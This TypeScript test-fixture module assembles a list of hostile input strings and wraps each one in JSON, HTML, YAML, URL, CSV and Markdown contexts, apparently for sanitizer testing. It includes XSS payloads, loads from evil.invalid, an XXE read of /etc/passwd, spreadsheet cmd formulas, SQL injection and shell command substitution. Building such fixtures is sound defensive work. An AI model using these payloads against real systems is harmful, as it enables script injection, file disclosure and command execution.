import { repeated, type HostileString } from './hostile-string';

/** Markup and script that would run, load or navigate where a text became DOM. */
const MARKUP = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.invalid/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<form action=javascript:alert(1)><input type=submit>',
  '<form><button formaction=javascript:alert(1)>x',
  '<form><input name=attributes><input name=parentNode>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<style>@import "//evil.invalid/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">',
  '<link rel=stylesheet href=//evil.invalid/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=//evil.invalid/>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '" onmouseover="alert(1)',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?><a/>',
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  '<xsl:include href="file:///etc/passwd"/>',
  // oxlint-disable-next-line no-script-url -- what is tried is that it leads nowhere
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '=cmd|" /C calc"!A0',
  '@SUM(1+9)*cmd|" /C calc"!A0',
  "'; DROP TABLE users; --",
  "' OR 1=1 /*",
  '$(touch /tmp/x)`id`;|& true',
];

/** Where such a text stands. */
const CONTEXTS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => JSON.stringify({ a: payload }),
  (payload) => JSON.stringify({ [payload]: [payload] }),
  (payload) => `<p title="${payload}">${payload}</p>`,
  (payload) => `a: ${payload}\n"b": '${payload.replaceAll("'", "''")}'`,
  (payload) => `https://a.invalid/?q=${encodeURIComponent(payload)}#${payload}`,
  (payload) => `a,"${payload.replaceAll('"', '""')}"`,
  (payload) => `[${payload}](${payload}) "${payload}`,
];

/** Markup and script in all contexts. */
export const markup: readonly HostileString[] = CONTEXTS.flatMap((context) =>
  MARKUP.map((payload) => repeated('markup', context(payload), '\n')),
);
